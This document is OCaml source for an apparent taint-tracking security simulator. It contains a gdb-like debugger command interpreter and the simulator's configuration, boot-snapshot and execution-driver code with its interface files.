  \  c                  continue to breakpoint / alert / fault / exit\n\
  \  b [sym|0xaddr]     set breakpoint (no argument: list)\n\
  \  d <sym|0xaddr>     delete breakpoint\n\
  \  regs               registers (non-zero) with taint masks\n\
  \  mem <sym|0xaddr> [n]  hex dump, * = tainted byte\n\
  \  bt                 guest backtrace\n\
  \  dis [sym|0xaddr] [n]  disassemble (default: around pc)\n\
  \  taint              tainted registers + guarded ranges\n\
  \  info               execution status\n\
  \  q                  quit\n"

let exec t line =
  let words =
    String.split_on_char ' ' (String.trim line) |> List.filter (fun w -> w <> "")
  in
  let unknown_location token = (Printf.sprintf "  unknown location %S\n" token, `Continue) in
  match words with
  | [] -> ("", `Continue)
  | [ "q" ] | [ "quit" ] | [ "exit" ] -> ("", `Quit)
  | [ "help" ] | [ "h" ] | [ "?" ] -> (help_text, `Continue)
  | "s" :: rest | "step" :: rest ->
    let n = match rest with [ n ] -> max 1 (int_of_string_opt n |> Option.value ~default:1) | _ -> 1 in
    (step_n t n, `Continue)
  | [ "c" ] | [ "continue" ] -> (continue_ t, `Continue)
  | [ "b" ] | [ "break" ] ->
    ( (match t.breakpoints with
       | [] -> "  no breakpoints\n"
       | bs ->
         String.concat ""
           (List.map (fun (a, name) -> Printf.sprintf "  0x%08x %s\n" a name) bs)),
      `Continue )
  | [ "b"; token ] | [ "break"; token ] -> (
    match resolve t token with
    | Some (addr, name) ->
      t.breakpoints <- (addr, name) :: t.breakpoints;
      (Printf.sprintf "  breakpoint at 0x%08x (%s)\n" addr name, `Continue)
    | None -> unknown_location token)
  | [ "d"; token ] | [ "delete"; token ] -> (
    match resolve t token with
    | Some (addr, _) ->
      t.breakpoints <- List.filter (fun (a, _) -> a <> addr) t.breakpoints;
      ("  deleted\n", `Continue)
    | None -> unknown_location token)
  | [ "regs" ] -> (show_regs t, `Continue)
  | "mem" :: token :: rest -> (
    match resolve t token with
    | Some (addr, _) ->
      let len =
        match rest with [ n ] -> int_of_string_opt n |> Option.value ~default:64 | _ -> 64
      in
      (hexdump t addr len, `Continue)
    | None -> unknown_location token)
  | [ "bt" ] | [ "backtrace" ] ->
    ( String.concat ""
        (List.mapi
           (fun i f ->
             Printf.sprintf "  #%d %08x %s\n" i f.Diagnostics.pc f.Diagnostics.location)
           (Diagnostics.backtrace (program t) (machine t))),
      `Continue )
  | [ "dis" ] ->
    (disassemble t ((machine t).Ptaint_cpu.Machine.pc - 8) 8, `Continue)
  | "dis" :: token :: rest -> (
    match resolve t token with
    | Some (addr, _) ->
      let n = match rest with [ n ] -> int_of_string_opt n |> Option.value ~default:8 | _ -> 8 in
      (disassemble t addr n, `Continue)
    | None -> unknown_location token)
  | [ "taint" ] -> (show_taint t, `Continue)
  | [ "info" ] ->
    ( Printf.sprintf "  %s\n  instructions executed: %d\n  status: %s\n" (current_line t)
        (machine t).Ptaint_cpu.Machine.icount
        (match t.outcome with
         | None -> "running"
         | Some o -> Format.asprintf "%a" Sim.pp_outcome o),
      `Continue )
  | cmd :: _ -> (Printf.sprintf "  unknown command %S (try 'help')\n" cmd, `Continue)
