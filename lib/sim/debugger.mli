(** A gdb-flavoured debugger for guest programs.

    The command interpreter is a library so it can be scripted and
    tested; [bin/ptaint_dbg] wraps it in a terminal REPL.

    Commands:
    - [s [n]] — step n instructions (default 1), printing each
    - [c] — continue to breakpoint, alert, fault or exit
    - [b <symbol|0xaddr>] — set a breakpoint; [b] lists them
    - [d <symbol|0xaddr>] — delete a breakpoint
    - [regs] — non-zero registers with taint masks
    - [mem <symbol|0xaddr> [n]] — hex dump ([*] marks tainted bytes)
    - [bt] — guest backtrace
    - [dis [symbol|0xaddr] [n]] — disassemble (default: around pc)
    - [taint] — tainted registers and guarded ranges
    - [info] — execution status
    - [help], [q] *)

type t

val create : Sim.session -> t
val finished : t -> Sim.outcome option

val exec : t -> string -> string * [ `Continue | `Quit ]
(** Execute one command line; returns the output to display. *)
