open Ptaint_cpu
open Ptaint_os

type config = {
  policy : Policy.t;
  sources : Sources.t;
  argv : string list;
  env : (string * string) list;
  stdin : string;
  sessions : string list list;
  fs_init : (string * string) list;
  uid : int;
  max_instructions : int;
  timing : bool;
  obs : bool;
  on_step : (Machine.t -> Ptaint_isa.Insn.t -> unit) option;
}

let default_config =
  { policy = Policy.default;
    sources = Sources.all;
    argv = [ "prog" ];
    env = [];
    stdin = "";
    sessions = [];
    fs_init = [];
    uid = 1000;
    max_instructions = 200_000_000;
    timing = false;
    obs = false;
    on_step = None }

let config ?(policy = default_config.policy) ?(sources = default_config.sources)
    ?(argv = default_config.argv) ?(env = default_config.env) ?(stdin = default_config.stdin)
    ?(sessions = default_config.sessions) ?(fs_init = default_config.fs_init)
    ?(uid = default_config.uid) ?(max_instructions = default_config.max_instructions)
    ?(timing = default_config.timing) ?(obs = default_config.obs) ?on_step () =
  { policy; sources; argv; env; stdin; sessions; fs_init; uid; max_instructions; timing;
    obs; on_step }

let policy_labels =
  [ ("full", Policy.default);
    ("control-only", Policy.control_only);
    ("none", Policy.unprotected);
    ("baseline", Policy.baseline_no_tracking) ]

let policy_of_label = function
  | "full" | "pointer-taintedness" -> Ok Policy.default
  | "control-only" | "minos" -> Ok Policy.control_only
  | "none" | "unprotected" -> Ok Policy.unprotected
  | "baseline" | "no-tracking" -> Ok Policy.baseline_no_tracking
  | s ->
    Error
      (Printf.sprintf "unknown policy %S (%s)" s
         (String.concat " | " (List.map fst policy_labels)))

let config_of ~label ?sources ?argv ?env ?stdin ?sessions ?fs_init ?uid
    ?max_instructions ?timing ?obs ?on_step () =
  match policy_of_label label with
  | Error e -> invalid_arg ("Sim.config_of: " ^ e)
  | Ok policy ->
    config ~policy ?sources ?argv ?env ?stdin ?sessions ?fs_init ?uid
      ?max_instructions ?timing ?obs ?on_step ()

(* The builder supersedes the ever-growing optional-argument
   constructors above: each setter is value-first so configs read as
   pipelines ([default |> with_policy p |> with_stdin s]). *)
module Config = struct
  type t = config

  let default = default_config
  let with_policy policy c = { c with policy }

  let with_policy_label label c =
    match policy_of_label label with
    | Ok policy -> { c with policy }
    | Error e -> invalid_arg ("Sim.Config.with_policy_label: " ^ e)

  let with_sources sources c = { c with sources }
  let with_argv argv c = { c with argv }
  let with_env env c = { c with env }
  let with_stdin stdin c = { c with stdin }
  let with_sessions sessions c = { c with sessions }
  let with_fs_init fs_init c = { c with fs_init }
  let with_uid uid c = { c with uid }
  let with_max_instructions max_instructions c = { c with max_instructions }
  let with_timing timing c = { c with timing }
  let with_obs obs c = { c with obs }
  let with_on_step on_step c = { c with on_step = Some on_step }
  let without_on_step c = { c with on_step = None }
end

type outcome =
  | Exited of int
  | Alert of Machine.alert
  | Fault of Machine.fault
  | Trap of int
  | Out_of_fuel

type result = {
  outcome : outcome;
  stdout : string;
  net_sent : string list;
  execs : string list;
  final_uid : int;
  instructions : int;
  input_bytes : int;
  syscalls : int;
  cycles : int option;
  pipeline : Pipeline.stats option;
  kernel : Kernel.t;
  machine : Machine.t;
  image : Ptaint_asm.Loader.image;
}

let pp_outcome ppf = function
  | Exited c -> Format.fprintf ppf "exited with status %d" c
  | Alert a -> Format.fprintf ppf "SECURITY ALERT: %a" Machine.pp_alert a
  | Fault f -> Format.fprintf ppf "fault: %a" Machine.pp_fault f
  | Trap c -> Format.fprintf ppf "break trap %d" c
  | Out_of_fuel -> Format.pp_print_string ppf "instruction budget exhausted"

let detected r = match r.outcome with Alert _ -> true | _ -> false

type session = {
  s_machine : Machine.t;
  s_kernel : Kernel.t;
  s_image : Ptaint_asm.Loader.image;
  s_config : config;
  s_pipeline : Pipeline.t option;
}

type progress = Running | Finished of outcome

let boot_image ?decoded ?tier config (image : Ptaint_asm.Loader.image) =
  let machine =
    Machine.create ~policy:config.policy ?decoded ?tier ~code:image.Ptaint_asm.Loader.code
      ~mem:image.Ptaint_asm.Loader.mem ~entry:image.Ptaint_asm.Loader.entry ()
  in
  Regfile.set machine.Machine.regs Ptaint_isa.Reg.sp
    (Ptaint_taint.Tword.untainted image.Ptaint_asm.Loader.initial_sp);
  (* Each session owns a fresh trace: configs are shared across
     campaign jobs running on different domains, so the mutable bus
     must be per-boot, never part of the config. *)
  let trace =
    if config.obs then begin
      let tr = Ptaint_obs.Trace.create () in
      Machine.attach_obs machine tr;
      Some tr
    end
    else None
  in
  let fs = Fs.create () in
  List.iter (fun (path, contents) -> Fs.add fs ~path contents) config.fs_init;
  let kernel =
    Kernel.create ~sources:config.sources ~fs ~stdin:config.stdin ~sessions:config.sessions
      ~uid:config.uid ?trace ~heap_base:image.Ptaint_asm.Loader.heap_base
      ~heap_limit:image.Ptaint_asm.Loader.heap_limit ~mem:image.Ptaint_asm.Loader.mem ()
  in
  let pipe = if config.timing then Some (Pipeline.create machine) else None in
  { s_machine = machine; s_kernel = kernel; s_image = image; s_config = config;
    s_pipeline = pipe }

let boot ?(config = default_config) program =
  boot_image config
    (Ptaint_asm.Loader.load ~argv:config.argv ~env:config.env ~sources:config.sources program)

(* --- boot images (snapshot templates) ---

   Loading a guest image writes every data/stack/argument byte through
   the tagged store, and decoding its text into block tables is the
   other per-boot cost worth paying once.  An {!Image.t} does both up
   front: load, snapshot the memory, pre-decode the text.  Every
   subsequent boot restores the snapshot copy-on-write and reuses the
   decoded blocks by reference — safe concurrently from many domains
   because snapshot pages and block tables are immutable after
   creation (memory writers clone their page first). *)

module Image = struct
  type t = {
    i_image : Ptaint_asm.Loader.image;
    i_blocks : Block.t;  (* pre-decoded text, shared by every boot *)
    i_snapshot : Ptaint_mem.Memory.snapshot;
    i_argv : string list;
    i_env : (string * string) list;
    i_sources : Sources.t;
    i_tiers : (Policy.t * Superblock.tier) list Atomic.t;
        (* superblock translation tables, one per policy the image has
           run under.  Translated closures bake policy constants, so a
           tier is only valid for the exact policy it was built with;
           campaigns replay the same few policies, so a small assoc
           list found by structural equality suffices.  Push-only CAS
           list: losing a race re-reads and retries, and a duplicate
           tier (two domains creating one concurrently) costs only the
           warm-up repeating. *)
  }

  let program t = t.i_image.Ptaint_asm.Loader.program
  let blocks t = t.i_blocks

  let rec tier_for t policy =
    let tiers = Atomic.get t.i_tiers in
    match List.find_opt (fun (p, _) -> p = policy) tiers with
    | Some (_, tier) -> tier
    | None ->
      let tier = Superblock.create_tier t.i_blocks policy in
      if Atomic.compare_and_set t.i_tiers tiers ((policy, tier) :: tiers) then tier
      else tier_for t policy
end

type template = Image.t

let prepare ?(config = default_config) program =
  let image =
    Ptaint_asm.Loader.load ~argv:config.argv ~env:config.env ~sources:config.sources program
  in
  let code = image.Ptaint_asm.Loader.code in
  { Image.i_image = image;
    i_blocks = Block.analyze ~base:code.Machine.base code.Machine.insns;
    i_snapshot = Ptaint_mem.Memory.snapshot image.Ptaint_asm.Loader.mem;
    i_argv = config.argv;
    i_env = config.env;
    i_sources = config.sources;
    i_tiers = Atomic.make [] }

let template_matches (config : config) program (tpl : template) =
  tpl.Image.i_image.Ptaint_asm.Loader.program == program
  && tpl.Image.i_argv = config.argv && tpl.Image.i_env = config.env
  && tpl.Image.i_sources = config.sources

let check_template_config who (config : config) (tpl : template) =
  if not
       (config.argv = tpl.Image.i_argv && config.env = tpl.Image.i_env
        && config.sources = tpl.Image.i_sources)
  then invalid_arg (who ^ ": argv/env/sources differ from the template image")

let boot_template ?(config = default_config) tpl =
  check_template_config "Sim.boot_template" config tpl;
  let mem = Ptaint_mem.Memory.restore tpl.Image.i_snapshot in
  let s =
    boot_image ~decoded:tpl.Image.i_blocks ~tier:(Image.tier_for tpl config.policy) config
      { tpl.Image.i_image with Ptaint_asm.Loader.mem }
  in
  (match Machine.trace s.s_machine with
   | Some tr -> Ptaint_obs.Trace.emit tr (Ptaint_obs.Event.Restore { cycle = 0 })
   | None -> ());
  s

(* --- arena boots ---

   [boot_template] still allocates a machine, a register file, a
   memory wrapper and a page table per job.  The arena path recycles
   all of those: each domain keeps one machine ([Domain.DLS]) whose
   memory is rewound in place from the image's snapshot and whose
   machine state is [Machine.reset] at the image's entry — possibly a
   different image each boot.  In the steady state a boot allocates
   only the kernel and session records.

   The contract is strictly weaker than [boot_template]: the returned
   session (and any {!result} taken from it) aliases the domain's
   arena and is only valid until the next arena boot on that domain.
   Streaming campaign workers, which extract counters from a result
   before touching the next job, satisfy this; anything that keeps
   results must use the fresh-boot path.  Configs that need
   observation machinery (timing model, on_step, obs trace) fall back
   to a fresh boot — those sessions are kept and inspected. *)

let arena_key : Machine.t option ref Domain.DLS.key =
  Domain.DLS.new_key (fun () -> ref None)

let boot_template_arena ?(config = default_config) tpl =
  if config.timing || config.obs || config.on_step <> None then boot_template ~config tpl
  else begin
    check_template_config "Sim.boot_template_arena" config tpl;
    let cell = Domain.DLS.get arena_key in
    match !cell with
    | None ->
      (* first boot on this domain seeds the arena with an ordinary
         fresh boot *)
      let s = boot_template ~config tpl in
      cell := Some s.s_machine;
      s
    | Some machine ->
      let image = tpl.Image.i_image in
      Ptaint_mem.Memory.reset_from_snapshot machine.Machine.mem tpl.Image.i_snapshot;
      Machine.reset ~policy:config.policy ~decoded:tpl.Image.i_blocks
        ~tier:(Image.tier_for tpl config.policy) machine
        ~code:image.Ptaint_asm.Loader.code ~entry:image.Ptaint_asm.Loader.entry;
      Regfile.set machine.Machine.regs Ptaint_isa.Reg.sp
        (Ptaint_taint.Tword.untainted image.Ptaint_asm.Loader.initial_sp);
      let fs = Fs.create () in
      List.iter (fun (path, contents) -> Fs.add fs ~path contents) config.fs_init;
      let kernel =
        Kernel.create ~sources:config.sources ~fs ~stdin:config.stdin
          ~sessions:config.sessions ~uid:config.uid
          ~heap_base:image.Ptaint_asm.Loader.heap_base
          ~heap_limit:image.Ptaint_asm.Loader.heap_limit ~mem:machine.Machine.mem ()
      in
      { s_machine = machine;
        s_kernel = kernel;
        s_image = { image with Ptaint_asm.Loader.mem = machine.Machine.mem };
        s_config = config;
        s_pipeline = None }
  end

let session_step s =
  let machine = s.s_machine in
  if machine.Machine.icount >= s.s_config.max_instructions then Finished Out_of_fuel
  else begin
    (match s.s_config.on_step with
     | Some hook -> (
       match Machine.fetch machine machine.Machine.pc with
       | Some insn -> hook machine insn
       | None -> ())
     | None -> ());
    match
      (match s.s_pipeline with Some p -> Pipeline.step p | None -> Machine.step machine)
    with
    | Machine.Normal -> Running
    | Machine.Syscall -> (
      match Kernel.handle s.s_kernel machine with
      | `Continue -> Running
      | `Exit code -> Finished (Exited code))
    | Machine.Alert a -> Finished (Alert a)
    | Machine.Fault f -> Finished (Fault f)
    | Machine.Break_trap c -> Finished (Trap c)
  end

let result_of s outcome =
  { outcome;
    stdout = Kernel.stdout_contents s.s_kernel;
    net_sent = Socket.sent (Kernel.net s.s_kernel);
    execs = Kernel.execs s.s_kernel;
    final_uid = Kernel.uid s.s_kernel;
    instructions = s.s_machine.Machine.icount;
    input_bytes = Kernel.input_bytes s.s_kernel;
    syscalls = Kernel.syscall_count s.s_kernel;
    cycles = Option.map (fun p -> (Pipeline.stats p).Pipeline.cycles) s.s_pipeline;
    pipeline = Option.map Pipeline.stats s.s_pipeline;
    kernel = s.s_kernel;
    machine = s.s_machine;
    image = s.s_image }

let finish_per_step s =
  let rec loop () =
    match session_step s with Running -> loop () | Finished outcome -> outcome
  in
  result_of s (loop ())

(* Bulk driver: whole blocks per dispatch via [Machine.run], fuel
   re-derived from [icount] around each syscall so [Out_of_fuel] lands
   on exactly the same instruction as the per-step loop. *)
let finish_bulk s =
  let machine = s.s_machine in
  let rec loop () =
    let fuel = s.s_config.max_instructions - machine.Machine.icount in
    if fuel <= 0 then Out_of_fuel
    else
      match Machine.run machine ~fuel with
      | Machine.Normal -> Out_of_fuel
      | Machine.Syscall -> (
        match Kernel.handle s.s_kernel machine with
        | `Continue -> loop ()
        | `Exit code -> Exited code)
      | Machine.Alert a -> Alert a
      | Machine.Fault f -> Fault f
      | Machine.Break_trap c -> Trap c
  in
  result_of s (loop ())

(* The block engine is used exactly when nothing needs to observe
   individual instructions: no pipeline timing model, no on_step hook,
   no obs trace.  Those configs (and the debugger, which single-steps
   via [session_step]) keep the per-step engine and its byte-identical
   semantics. *)
let finish s =
  match (s.s_pipeline, s.s_config.on_step, s.s_machine.Machine.obs) with
  | None, None, None -> finish_bulk s
  | _ -> finish_per_step s

(* --- fuel-sliced execution ---

   Slicing caps each [Machine.run] dispatch at [slice] instructions
   and runs [boundary] between slices (and around every syscall).
   Because [Machine.run] returns [Normal] exactly when its fuel ran
   out and fuel is re-derived from [icount], slice boundaries are
   observationally invisible: a sliced run is byte-identical to an
   unsliced one.  The boundary is where the cooperative watchdog
   checks its wall-clock deadline and where the fault injector
   re-asserts stuck-at-clean regions. *)

exception Timeout of { instructions : int }

let default_slice = 65536

let finish_sliced ?deadline ?(slice = default_slice) ?on_slice s =
  let machine = s.s_machine in
  let slice = max 1 slice in
  let boundary () =
    (match deadline with
     | Some d when Unix.gettimeofday () > d ->
       raise (Timeout { instructions = machine.Machine.icount })
     | _ -> ());
    match on_slice with Some f -> f s | None -> ()
  in
  match (s.s_pipeline, s.s_config.on_step) with
  | None, None ->
    (* Bulk engine ([Machine.run] drives per-step itself when an obs
       trace is attached, so obs sessions take this arm too). *)
    let rec loop first =
      let fuel = s.s_config.max_instructions - machine.Machine.icount in
      if fuel <= 0 then Out_of_fuel
      else begin
        if not first then boundary ();
        match Machine.run machine ~fuel:(min fuel slice) with
        | Machine.Normal -> loop false
        | Machine.Syscall -> (
          match Kernel.handle s.s_kernel machine with
          | `Continue -> loop false
          | `Exit code -> Exited code)
        | Machine.Alert a -> Alert a
        | Machine.Fault f -> Fault f
        | Machine.Break_trap c -> Trap c
      end
    in
    result_of s (loop true)
  | _ ->
    (* Reference engine, with the boundary run every [slice] steps. *)
    let next = ref (machine.Machine.icount + slice) in
    let rec loop () =
      if machine.Machine.icount >= !next then begin
        boundary ();
        next := machine.Machine.icount + slice
      end;
      match session_step s with Running -> loop () | Finished outcome -> outcome
    in
    result_of s (loop ())

(* Drive the session until the guest has executed [icount]
   instructions in total, pausing there ([Running]) so the caller can
   mutate machine state; [Finished] means the guest stopped first. *)
let run_until ?deadline ?(slice = default_slice) ?on_slice s ~icount:target =
  let machine = s.s_machine in
  let slice = max 1 slice in
  let boundary () =
    (match deadline with
     | Some d when Unix.gettimeofday () > d ->
       raise (Timeout { instructions = machine.Machine.icount })
     | _ -> ());
    match on_slice with Some f -> f s | None -> ()
  in
  match (s.s_pipeline, s.s_config.on_step) with
  | None, None ->
    let rec loop first =
      if machine.Machine.icount >= target then Running
      else
        let fuel = s.s_config.max_instructions - machine.Machine.icount in
        if fuel <= 0 then Finished Out_of_fuel
        else begin
          if not first then boundary ();
          let fuel = min (min fuel slice) (target - machine.Machine.icount) in
          match Machine.run machine ~fuel with
          | Machine.Normal -> loop false
          | Machine.Syscall -> (
            match Kernel.handle s.s_kernel machine with
            | `Continue -> loop false
            | `Exit code -> Finished (Exited code))
          | Machine.Alert a -> Finished (Alert a)
          | Machine.Fault f -> Finished (Fault f)
          | Machine.Break_trap c -> Finished (Trap c)
        end
    in
    loop true
  | _ ->
    let next = ref (machine.Machine.icount + slice) in
    let rec loop () =
      if machine.Machine.icount >= target then Running
      else begin
        if machine.Machine.icount >= !next then begin
          boundary ();
          next := machine.Machine.icount + slice
        end;
        match session_step s with Running -> loop () | Finished outcome -> Finished outcome
      end
    in
    loop ()

let run ?deadline ?slice ?config program =
  let s = boot ?config program in
  match (deadline, slice) with
  | None, None -> finish s
  | _ -> finish_sliced ?deadline ?slice s

let run_asm ?config source = run ?config (Ptaint_asm.Assembler.assemble_exn source)

let run_template ?deadline ?slice ?config tpl =
  let s = boot_template ?config tpl in
  match (deadline, slice) with
  | None, None -> finish s
  | _ -> finish_sliced ?deadline ?slice s

let run_template_arena ?deadline ?slice ?config tpl =
  let s = boot_template_arena ?config tpl in
  match (deadline, slice) with
  | None, None -> finish s
  | _ -> finish_sliced ?deadline ?slice s

let templates_of batch =
  List.fold_left
    (fun acc (config, program) ->
      if List.exists (template_matches config program) acc then acc
      else
        match prepare ~config program with
        | tpl -> tpl :: acc
        | exception _ ->
          (* A program the loader rejects gets no template; running it
             directly reproduces the same failure on the worker. *)
          acc)
    [] batch

let run_with ?deadline ?slice templates config program =
  match List.find_opt (template_matches config program) templates with
  | Some tpl -> run_template ?deadline ?slice ~config tpl
  | None -> run ?deadline ?slice ~config program

(* --- observation accessors --- *)

let trace s = Machine.trace s.s_machine

let events r =
  match Machine.trace r.machine with
  | Some tr -> Ptaint_obs.Trace.events tr
  | None -> []

let insn_window r = Machine.ring_window r.machine

let run_many ?domains batch =
  (* Build one template per distinct image in the parent, then let the
     workers restore the snapshot instead of re-loading. *)
  let templates = templates_of batch in
  Ptaint_pool.Pool.map ?domains
    (fun (config, program) -> run_with templates config program)
    batch
