(** Whole-system simulator: CPU + memory + OS + program.

    This is the facade the examples and experiments drive: configure
    the protection {!Ptaint_cpu.Policy.t}, the taint sources, and the
    external world (argv, stdin, scripted network sessions, files),
    run a program, and observe the outcome — a clean exit, a security
    alert (detected attack), or a fault (the undetected attack
    crashing or corrupting the guest). *)

type config = {
  policy : Ptaint_cpu.Policy.t;
  sources : Ptaint_os.Sources.t;
  argv : string list;
  env : (string * string) list;
  stdin : string;
  sessions : string list list;  (** scripted inbound network sessions *)
  fs_init : (string * string) list;  (** path, contents *)
  uid : int;
  max_instructions : int;
  timing : bool;  (** run through the pipeline timing model *)
  on_step : (Ptaint_cpu.Machine.t -> Ptaint_isa.Insn.t -> unit) option;
      (** called before each instruction executes — tracing hook *)
}

val default_config : config
val config : ?policy:Ptaint_cpu.Policy.t -> ?sources:Ptaint_os.Sources.t ->
  ?argv:string list -> ?env:(string * string) list -> ?stdin:string ->
  ?sessions:string list list -> ?fs_init:(string * string) list -> ?uid:int ->
  ?max_instructions:int -> ?timing:bool ->
  ?on_step:(Ptaint_cpu.Machine.t -> Ptaint_isa.Insn.t -> unit) -> unit -> config

type outcome =
  | Exited of int
  | Alert of Ptaint_cpu.Machine.alert
  | Fault of Ptaint_cpu.Machine.fault
  | Trap of int
  | Out_of_fuel

type result = {
  outcome : outcome;
  stdout : string;
  net_sent : string list;
  execs : string list;
  final_uid : int;
  instructions : int;
  input_bytes : int;
  syscalls : int;
  cycles : int option;      (** when [timing] *)
  pipeline : Ptaint_cpu.Pipeline.stats option;
  kernel : Ptaint_os.Kernel.t;
  machine : Ptaint_cpu.Machine.t;
  image : Ptaint_asm.Loader.image;
}

(** {1 Steppable sessions}

    {!run} drives a program to completion; a {!session} exposes the
    same machinery one instruction at a time, for debuggers and
    custom drivers. *)

type session = {
  s_machine : Ptaint_cpu.Machine.t;
  s_kernel : Ptaint_os.Kernel.t;
  s_image : Ptaint_asm.Loader.image;
  s_config : config;
  s_pipeline : Ptaint_cpu.Pipeline.t option;
}

type progress = Running | Finished of outcome

val boot : ?config:config -> Ptaint_asm.Program.t -> session
val session_step : session -> progress
(** Execute one instruction (servicing syscalls transparently). *)

val finish : session -> result
(** Run the session to completion and collect the result. *)

val run : ?config:config -> Ptaint_asm.Program.t -> result
val run_asm : ?config:config -> string -> result
(** Assemble (failing loudly on errors) and run. *)

val detected : result -> bool
val pp_outcome : Format.formatter -> outcome -> unit
