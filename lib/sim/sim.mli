(** Whole-system simulator: CPU + memory + OS + program.

    This is the facade the examples and experiments drive: configure
    the protection {!Ptaint_cpu.Policy.t}, the taint sources, and the
    external world (argv, stdin, scripted network sessions, files),
    run a program, and observe the outcome — a clean exit, a security
    alert (detected attack), or a fault (the undetected attack
    crashing or corrupting the guest). *)

type config = {
  policy : Ptaint_cpu.Policy.t;
  sources : Ptaint_os.Sources.t;
  argv : string list;
  env : (string * string) list;
  stdin : string;
  sessions : string list list;  (** scripted inbound network sessions *)
  fs_init : (string * string) list;  (** path, contents *)
  uid : int;
  max_instructions : int;
  timing : bool;  (** run through the pipeline timing model *)
  obs : bool;
      (** attach a fresh {!Ptaint_obs.Trace.t} event bus to each booted
          session — taint introduction, propagation milestones, alerts,
          faults and syscalls become structured events, and the machine
          records a last-N instruction window.  Off by default: the
          interpreter then stays on its allocation-free fast path. *)
  on_step : (Ptaint_cpu.Machine.t -> Ptaint_isa.Insn.t -> unit) option;
      (** called before each instruction executes — tracing hook *)
}

val default_config : config

(** Pipeline-style configuration builder — the preferred way to make a
    {!config}:

    {[ Sim.Config.(default |> with_policy_label "full" |> with_stdin data) ]}

    Each setter is value-first and returns an updated copy, so adding
    a config field never changes an existing call site.  The record
    {!config} stays exported for pattern matching and [{ c with … }]
    updates. *)
module Config : sig
  type t = config

  val default : t
  (** Same value as {!default_config}. *)

  val with_policy : Ptaint_cpu.Policy.t -> t -> t

  val with_policy_label : string -> t -> t
  (** Policy by canonical label ({!policy_of_label}); raises
      [Invalid_argument] on an unknown label. *)

  val with_sources : Ptaint_os.Sources.t -> t -> t
  val with_argv : string list -> t -> t
  val with_env : (string * string) list -> t -> t
  val with_stdin : string -> t -> t
  val with_sessions : string list list -> t -> t
  val with_fs_init : (string * string) list -> t -> t
  val with_uid : int -> t -> t
  val with_max_instructions : int -> t -> t
  val with_timing : bool -> t -> t
  val with_obs : bool -> t -> t
  val with_on_step : (Ptaint_cpu.Machine.t -> Ptaint_isa.Insn.t -> unit) -> t -> t
  val without_on_step : t -> t
end

(** Deprecated constructor — prefer {!Config}.  Kept as a thin wrapper
    so existing call sites and the library's own internals keep
    compiling; new code should write
    [Config.(default |> with_policy p |> …)]. *)
val config : ?policy:Ptaint_cpu.Policy.t -> ?sources:Ptaint_os.Sources.t ->
  ?argv:string list -> ?env:(string * string) list -> ?stdin:string ->
  ?sessions:string list list -> ?fs_init:(string * string) list -> ?uid:int ->
  ?max_instructions:int -> ?timing:bool -> ?obs:bool ->
  ?on_step:(Ptaint_cpu.Machine.t -> Ptaint_isa.Insn.t -> unit) -> unit -> config

(** {1 Named configurations}

    Protection policies have stable textual names so drivers,
    campaign job generators and command lines stop hand-rolling their
    own policy plumbing against the 11-field {!config} record. *)

val policy_labels : (string * Ptaint_cpu.Policy.t) list
(** Canonical label for each policy: ["full"], ["control-only"],
    ["none"], ["baseline"] (tracking disabled). *)

val policy_of_label : string -> (Ptaint_cpu.Policy.t, string) Stdlib.result
(** Accepts the canonical labels plus their aliases
    (["pointer-taintedness"], ["minos"], ["unprotected"]); [Error]
    carries a human-readable message listing the known labels. *)

val config_of : label:string -> ?sources:Ptaint_os.Sources.t ->
  ?argv:string list -> ?env:(string * string) list -> ?stdin:string ->
  ?sessions:string list list -> ?fs_init:(string * string) list -> ?uid:int ->
  ?max_instructions:int -> ?timing:bool -> ?obs:bool ->
  ?on_step:(Ptaint_cpu.Machine.t -> Ptaint_isa.Insn.t -> unit) -> unit -> config
(** {!config} with the policy chosen by name.  Raises
    [Invalid_argument] on an unknown label. *)

type outcome =
  | Exited of int
  | Alert of Ptaint_cpu.Machine.alert
  | Fault of Ptaint_cpu.Machine.fault
  | Trap of int
  | Out_of_fuel

type result = {
  outcome : outcome;
  stdout : string;
  net_sent : string list;
  execs : string list;
  final_uid : int;
  instructions : int;
  input_bytes : int;
  syscalls : int;
  cycles : int option;      (** when [timing] *)
  pipeline : Ptaint_cpu.Pipeline.stats option;
  kernel : Ptaint_os.Kernel.t;
  machine : Ptaint_cpu.Machine.t;
  image : Ptaint_asm.Loader.image;
}

(** {1 Steppable sessions}

    {!run} drives a program to completion; a {!session} exposes the
    same machinery one instruction at a time, for debuggers and
    custom drivers. *)

type session = {
  s_machine : Ptaint_cpu.Machine.t;
  s_kernel : Ptaint_os.Kernel.t;
  s_image : Ptaint_asm.Loader.image;
  s_config : config;
  s_pipeline : Ptaint_cpu.Pipeline.t option;
}

type progress = Running | Finished of outcome

val boot : ?config:config -> Ptaint_asm.Program.t -> session
val session_step : session -> progress
(** Execute one instruction (servicing syscalls transparently). *)

val finish : session -> result
(** Run the session to completion and collect the result.  Routes
    through the block-threaded bulk engine ({!Ptaint_cpu.Machine.run})
    when no pipeline timing model, no [on_step] hook and no obs trace
    is attached — the [run_many]/campaign/benchmark path — and falls
    back to the per-instruction engine otherwise.  Results are
    bit-identical either way. *)

val finish_per_step : session -> result
(** Run to completion strictly one instruction at a time — the
    reference engine the bulk path is differentially tested against.
    Semantically identical to {!finish}, just slower. *)

val result_of : session -> outcome -> result
(** Collect the session's observable state into a {!result} — for
    drivers ({!run_until} clients, fault injectors) that finish a
    session themselves. *)

(** {1 Fuel-sliced execution}

    Slicing caps each engine dispatch at [slice] instructions and runs
    a boundary check between slices.  Slice boundaries are
    observationally invisible — a sliced run is byte-identical to an
    unsliced one — so they are where cooperative machinery lives: the
    wall-clock watchdog (raising {!Timeout} past [deadline]) and the
    fault injector's per-slice hooks ([on_slice], e.g. re-asserting
    stuck-at-clean regions). *)

exception Timeout of { instructions : int }
(** Raised from a slice boundary when the wall-clock [deadline]
    (absolute, [Unix.gettimeofday] seconds) has passed; carries the
    guest instruction count at interruption.  The campaign runtime
    classifies it as [Timeout]. *)

val default_slice : int
(** 65536 instructions — coarse enough to cost nothing (<1% of bulk
    throughput), fine enough for sub-millisecond watchdog latency. *)

val finish_sliced :
  ?deadline:float -> ?slice:int -> ?on_slice:(session -> unit) -> session -> result
(** Run to completion in fuel slices.  With no [deadline] and no
    [on_slice] this is semantically {!finish} (same engine routing,
    same results), just dispatched [slice] instructions at a time. *)

val run_until :
  ?deadline:float -> ?slice:int -> ?on_slice:(session -> unit) ->
  session -> icount:int -> progress
(** Drive the session until the guest has executed [icount]
    instructions in total, then pause ([Running]) with the machine
    stopped exactly there — the fault injector's scheduling primitive.
    [Finished] means the guest stopped first.  Call repeatedly with
    increasing targets; mutate machine state freely while paused. *)

